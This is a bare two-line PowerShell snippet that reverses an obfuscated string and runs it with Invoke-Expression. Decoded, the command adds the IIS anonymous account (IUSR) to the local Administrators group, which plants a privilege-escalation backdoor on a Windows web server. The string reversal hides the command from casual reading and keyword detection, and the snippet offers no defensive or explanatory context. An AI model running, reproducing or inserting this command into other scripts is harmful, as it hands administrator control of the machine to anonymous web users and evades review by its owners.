$s = 'dda/ RSUI srotartsinimdA puorglacol ten'
$c = [char[]]$s; [array]::Reverse($c); iex (-join $c)
